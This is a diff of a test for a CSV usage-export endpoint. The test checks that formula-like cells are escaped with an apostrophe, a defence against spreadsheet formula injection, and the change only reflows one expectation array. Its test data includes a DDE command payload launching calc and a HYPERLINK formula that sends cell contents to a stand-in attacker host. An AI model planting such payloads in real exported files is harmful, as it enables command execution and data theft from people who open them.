@@ -168,13 +168,7 @@ describe('GET /api/usage/export', () => {
     const { rows } = await exportCsv('', user.token);
     expect(rows.slice(0, 4).map((r) => r.model)).toEqual([`'=cmd|' /C calc'!A0`, `'\t=1+1`, `'\r=1+1`, 'acme/-1']);
     const byKey = new Map(rows.slice(4).map((r) => [r.key_id, r.key_name]));
-    expect(keys.map((k) => byKey.get(k.id))).toEqual([
-      `'=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")`,
-      `'@SUM(1+1)*cmd|`,
-      `'+7 900`,
-      `'-1+2`,
-      'Обычный =ключ',
-    ]);
+    expect(keys.map((k) => byKey.get(k.id))).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")`, `'@SUM(1+1)*cmd|`, `'+7 900`, `'-1+2`, 'Обычный =ключ']);
     // Numbers are written as numbers, never with an apostrophe.
     expect(rows.every((r) => /^\d+$/.test(r.id!) && /^\d+\.\d{9}$/.test(r.cost!) && /^\d+$/.test(r.total_tokens!))).toBe(true);
   });
